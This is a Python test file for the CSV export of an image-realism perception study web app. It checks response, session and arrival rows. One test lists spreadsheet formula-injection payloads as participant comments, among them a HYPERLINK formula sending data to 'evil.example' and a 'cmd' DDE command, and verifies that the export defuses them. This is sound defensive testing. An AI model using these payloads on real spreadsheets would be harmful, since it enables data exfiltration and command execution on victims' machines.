"""What is exported is what happened: responses.csv, sessions.csv, arrivals.csv."""

import dataclasses
import re
from pathlib import Path

import pytest

from studies.records import Arrival, Response, Session, columns, read_csv
from tests.webapp.conftest import Hosting, make_named_study
from tests.webapp.people import MINUTE, Clock, Person, arrive, hashed
from webapp import sessions
from webapp.export import export
from webapp.freeze import iso
from webapp.hosting import HostedStudy

DISPLAY = {
    "slots": {
        "1": {
            "exposure_ms": 1001.5,
            "max_frame_gap_ms": 17.1,
            "bytes": 61_440,
            "fetch_ms": 31.5,
            "decode_ms": 4.25,
            "onset_ms": 5000.0,
            "onset_next_ms": 5016.7,
            "offset_ms": 6001.5,
            "frames": 60,
            "frames_expected": 60,
        },
        "2": {"exposure_ms": 998.25, "max_frame_gap_ms": 16.9},
    },
    "refresh_hz": 59.9,
    "device_pixel_ratio": 1.5,
    "zoom": 1.1,
    "pixel_scale": 4,
    "screen_px": "2560x1440",
    "window_px": "1400x900",
    "question_ms": 8000.0,
    "hidden_ms": 0.0,
    "blur_count": 2,
    "fullscreen": True,
    "client_version": "0123456789ab",
}


def exported(hosted: HostedStudy) -> list[Response]:
    path, count = export(hosted)
    rows = read_csv(path, Response)
    assert len(rows) == count
    return rows


def test_every_column_of_a_response_says_what_happened(hosted: HostedStudy, clock: Clock) -> None:
    person = Person.begin(hosted, "w1").walk(3)
    trial, number, issued = person.truth(person.ids[0]), person.ids[0], clock.now
    clock.advance(0.5)
    person.begun()
    clock.advance(0.1)
    times = {"event_ms": 8812.5, "received_ms": 3000.0, "client_clock": "2027-01-15T08:00:31.5Z"}
    person.send(number, "second", rt_ms=812.5, input="mouse", display=DISPLAY, **times)
    first, second = trial.slots
    fake = first if first.condition != "real" else second
    expected = Response(
        study="small",
        data="live",
        session=person.session,
        worker=hashed(hosted, "w1"),
        condition=person.place.condition,
        run=0,
        design="between",
        protocol="two_afc",
        phase="scored",
        trial_index=3,
        attempt=0,
        question="fake",
        image_1=first.image,
        source_id_1=first.source_id,
        condition_1=first.condition,
        run_1=0,
        side_1=first.side,
        planned_ms_1=1000,
        exposure_ms_1=1001.5,
        max_frame_gap_ms_1=17.1,
        image_2=second.image,
        source_id_2=second.source_id,
        condition_2=second.condition,
        run_2=0,
        side_2=second.side,
        planned_ms_2=1000,
        exposure_ms_2=998.25,
        max_frame_gap_ms_2=16.9,
        target=trial.target,
        choice="second",
        outcome=1.0 if fake is second else 0.0,
        rt_ms=812.5,
        void_reason="",
        flags="",
        input="mouse",
        issued_at=iso(issued),
        answered_at=iso(issued + round(0.6 * MINUTE)),
        refresh_hz=59.9,
        device_pixel_ratio=1.5,
        zoom=1.1,
        pixel_scale=4,
        screen_px="2560x1440",
        window_px="1400x900",
        bytes_1=61_440,
        fetch_ms_1=31.5,
        decode_ms_1=4.25,
        onset_ms_1=5000.0,
        onset_next_ms_1=5016.7,
        offset_ms_1=6001.5,
        frames_1=60,
        frames_expected_1=60,
        question_ms=8000.0,
        event_ms=8812.5,
        client_ms=5812.5,
        client_clock="2027-01-15T08:00:31.5Z",
        hidden_ms=0.0,
        blur_count=2,
        fullscreen=1,
        begun_at=iso(issued + MINUTE // 2),
        ended_at=iso(issued + round(0.6 * MINUTE)),
        ua_family="",
        client_version="0123456789ab",
    )
    row = exported(hosted)[3]
    for name in columns(Response):
        assert getattr(row, name) == getattr(expected, name), name
    assert {first.condition, second.condition} == {"real", person.place.condition}
    assert first.source_id != second.source_id
    assert re.fullmatch(r"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", row.answered_at)


@pytest.mark.parametrize("question", ["fake", "real"])
@pytest.mark.parametrize("choice", ["first", "second"])
def test_outcome_and_fooled_follow_the_truth_the_question_and_the_choice(
    hosting: Hosting, tmp_path: Path, question: str, choice: str
) -> None:
    hosted = hosting(where=make_named_study(tmp_path / "asked", study={"question": question}))
    person = Person.begin(hosted, "w1")
    while person.orders:
        person.answer(choice)
    rows = exported(hosted)
    assert {row.fake_first for row in rows} == {True, False}
    for row in rows:
        chosen = row.condition_1 if choice == "first" else row.condition_2
        right = (chosen == "real") == (question == "real")
        assert row.outcome == float(right)
        assert row.fooled == float(not right)
        assert row.question == question
        assert row.condition == "alpha" or row.condition == "beta"
        assert row.fake_side == (row.side_1 if row.fake_first else row.side_2)


def test_a_void_trial_has_its_reason_and_its_display_and_no_outcome(hosted: HostedStudy) -> None:
    person = Person.begin(hosted, "w1").walk(2)
    person.spoil("resized")
    row = exported(hosted)[2]
    assert (row.void_reason, row.choice, row.outcome, row.rt_ms, row.answered_at) == (
        "resized",
        "",
        None,
        None,
        "",
    )
    assert (row.exposure_ms_1, row.refresh_hz, row.screen_px) == (1000.0, 60.0, "1920x1080")
    assert row.fooled is None
    assert row.image_1
    assert row.issued_at


def test_a_trial_void_by_reload_has_no_display(hosted: HostedStudy) -> None:
    person = Person.begin(hosted, "w1")
    person.begun()
    person.reload()
    (row,) = exported(hosted)
    assert (row.void_reason, row.exposure_ms_1, row.screen_px) == ("reload", None, "")


def test_trials_that_are_neither_answered_nor_void_are_no_rows(hosted: HostedStudy) -> None:
    person = Person.begin(hosted, "w1").walk(1)
    person.begun()
    person.ended()
    assert [row.trial_index for row in exported(hosted)] == [0]


def test_a_missing_trial_has_only_its_void_row(hosted: HostedStudy) -> None:
    person = Person.begin(hosted, "w1").walk(2)
    person.spoil()
    person.spoil()
    person.walk()
    rows = [row for row in exported(hosted) if row.phase == "scored"]
    answered = {row.trial_index for row in rows if row.choice}
    assert {row.trial_index for row in rows} - answered == {3}
    assert [row.attempt for row in rows if row.trial_index == 2] == [0, 1]


@pytest.mark.parametrize(
    ("slot", "refresh_hz", "flags"),
    [
        ({"exposure_ms": 1024.9, "max_frame_gap_ms": 50.0}, 60.0, ""),
        ({"exposure_ms": 1025.1}, 60.0, "exposure"),
        ({"exposure_ms": 974.9}, 60.0, "exposure"),
        ({"exposure_ms": 1024.9}, 144.0, "exposure"),  # 1.5 frames are shorter there
        ({"exposure_ms": 1000.0, "max_frame_gap_ms": 50.1}, 60.0, "frame_gap"),
        ({"exposure_ms": 1100.0, "max_frame_gap_ms": 90.0}, 60.0, "exposure frame_gap"),
        ({"exposure_ms": 1025.1}, None, "exposure"),
    ],
)
def test_displays_that_went_wrong_are_flagged(
    hosted: HostedStudy, slot: dict[str, float], refresh_hz: float | None, flags: str
) -> None:
    person = Person.begin(hosted, "w1")
    for number in ("1", "2"):
        trial = person.ids[0]
        person.begun()
        display = {"slots": {number: slot}, "refresh_hz": refresh_hz}
        person.state = person.send(trial, display=display)
    assert [row.flags for row in exported(hosted)] == [flags, flags]


@pytest.mark.parametrize(("minutes", "flags"), [(10, ""), (10.1, "slow")])
def test_a_long_gap_from_sending_to_answer_is_flagged(
    hosted: HostedStudy, clock: Clock, minutes: float, flags: str
) -> None:
    person = Person.begin(hosted, "w1")
    clock.advance(minutes)
    person.answer()
    assert exported(hosted)[0].flags == flags


def test_the_files_read_back_as_they_were_written(hosted: HostedStudy, clock: Clock) -> None:
    from webapp import export as exporting

    Person.begin(hosted, "w1").walk(3).spoil()
    clock.advance(1)
    other = Person.begin(hosted, "w2").walk()
    sessions.comment(hosted, other.token, 'commas, "quotes"\nand lines; é')
    arrive(hosted, "w3")
    path, _ = export(hosted)
    assert path == hosted.config.folder / "live" / "responses.csv"
    assert read_csv(path, Response) == exporting.responses(hosted)
    assert read_csv(path.with_name("sessions.csv"), Session) == exporting.sessions(hosted)
    assert read_csv(path.with_name("arrivals.csv"), Arrival) == exporting.arrivals(hosted)
    assert sorted(file.name for file in path.parent.iterdir()) == [
        "admin_acts.csv",
        "arrivals.csv",
        "responses.csv",
        "sessions.csv",
    ]


def test_sessions_csv_tells_of_each_session_that_began(hosted: HostedStudy, clock: Clock) -> None:
    began = clock.now
    done = Person.begin(hosted, "w1")
    clock.advance(2)
    done.walk()
    left = Person.begin(hosted, "w2").walk(1)
    sessions.stop(hosted, left.token)
    clock.advance(1)
    gone = Person.begin(hosted, "w3")
    clock.advance(31)
    arrive(hosted, "w4")
    clock.advance(1)
    here = Person.begin(hosted, "w5")
    sessions.comment(hosted, done.token, "fine")
    export(hosted)
    rows = read_csv(hosted.config.folder / "live" / "sessions.csv", Session)
    assert rows[0] == Session(
        study="small",
        data="live",
        session=done.session,
        worker=hashed(hosted, "w1"),
        condition=done.place.condition,
        place_index=0,
        state="finished",
        started_at=iso(began),
        finished_at=iso(began + 2 * MINUTE),
        consent_version="1-test",
        comment="fine",
        observer="",
    )
    assert [(row.session, row.state) for row in rows[1:]] == [
        (left.session, "stopped"),
        (gone.session, "expired"),
        (here.session, "active"),
    ]
    assert [row.finished_at for row in rows[1:]] == ["", "", ""]


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ('=HYPERLINK("http://evil.example?"&A1,"click")', '\'=HYPERLINK("http://evil.example?"&A1,"click")'),
        ("+1 for this study", "'+1 for this study"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("＝1+1", "'＝1+1"),
        ("fine;=1+1", "fine;'=1+1"),
        ('fine; "=1+1', "fine; \"'=1+1"),
        ("fine,=1+1", "fine,'=1+1"),
        ("easy - but 2 = 2; mail me@home; -", "easy - but 2 = 2; mail me@home; '-"),
        ("10-20 images, a+b", "10-20 images, a+b"),
    ],
)
def test_a_comment_is_no_formula_when_a_spreadsheet_opens_the_file(
    hosted: HostedStudy, typed: str, kept: str
) -> None:
    person = Person.begin(hosted, "w1").walk()
    sessions.comment(hosted, person.token, typed)
    export(hosted)
    [row] = read_csv(hosted.config.folder / "live" / "sessions.csv", Session)
    assert row.comment == kept


def test_arrivals_csv_tells_of_everyone_who_opened_the_link(hosted: HostedStudy, clock: Clock) -> None:
    person = Person.begin(hosted, "w1")
    clock.advance(1)
    arrive(hosted, "w1")
    export(hosted)
    rows = read_csv(hosted.config.folder / "live" / "arrivals.csv", Arrival)
    worker = hashed(hosted, "w1")
    start = clock.now - MINUTE
    assert rows == [
        Arrival("small", "live", iso(start), worker, "admitted", person.place.condition),
        Arrival("small", "live", iso(clock.now), worker, "returning", ""),
    ]


def test_each_kind_of_data_is_exported_by_itself(hosting: Hosting) -> None:
    live, preview = hosting("live"), hosting("preview")
    simulated = hosting("simulated", observer="known")
    Person.begin(live, "w1").walk(1)
    Person.begin(preview, "w1").walk(2)
    Person.begin(simulated, "w1").walk(3)
    for count, (hosted, observer) in enumerate([(live, ""), (preview, ""), (simulated, "known")], 1):
        rows = exported(hosted)
        assert {row.data for row in rows} == {hosted.data}
        assert len(rows) == count
        (session,) = read_csv(hosted.config.folder / hosted.data / "sessions.csv", Session)
        assert session.observer == observer


def test_an_export_replaces_the_one_before_and_is_the_same_for_the_same_data(hosted: HostedStudy) -> None:
    person = Person.begin(hosted, "w1").walk(1)
    path, _ = export(hosted)
    first = path.read_bytes()
    export(hosted)
    assert path.read_bytes() == first
    person.walk(1)
    export(hosted)
    assert path.read_bytes().startswith(first)
    assert len(path.read_bytes()) > len(first)


def test_a_study_without_answers_exports_headings_only(hosted: HostedStudy) -> None:
    path, count = export(hosted)
    assert count == 0
    assert path.read_text(encoding="utf-8") == ",".join(columns(Response)) + "\n"


def test_in_a_within_design_each_row_names_the_algorithm_of_its_trial(
    hosting: Hosting, tmp_path: Path
) -> None:
    hosted = hosting(where=make_named_study(tmp_path / "mixed", study={"design": "within"}))
    Person.begin(hosted, "w1").walk()
    rows = exported(hosted)
    assert {row.condition for row in rows if row.phase == "scored"} == {"alpha", "beta"}
    for row in rows:
        assert {row.condition_1, row.condition_2} == {"real", row.condition}
        assert row.design == "within"
    (session,) = read_csv(hosted.config.folder / "live" / "sessions.csv", Session)
    assert session.condition == ""


def test_the_training_run_of_each_image_is_in_its_row(hosting: Hosting, tmp_path: Path) -> None:
    runs = {name: {"images": [f"images/{name}", f"images/{name}"]} for name in ("alpha", "beta")}
    hosted = hosting(where=make_named_study(tmp_path / "runs", conditions=runs))
    person = Person.begin(hosted, "w1").walk()
    rows = exported(hosted)
    assert {row.run for row in rows} == {0, 1}
    by_id = {stimulus.id: stimulus for stimulus in hosted.bundle.stimuli}
    for row, trial in zip(rows, person.sent(), strict=True):
        fake = next(slot for slot in trial.slots if slot.condition != "real")
        assert row.run == fake.run == by_id[fake.image].run
        assert dataclasses.asdict(row)[f"run_{row.fake_slot}"] == row.run
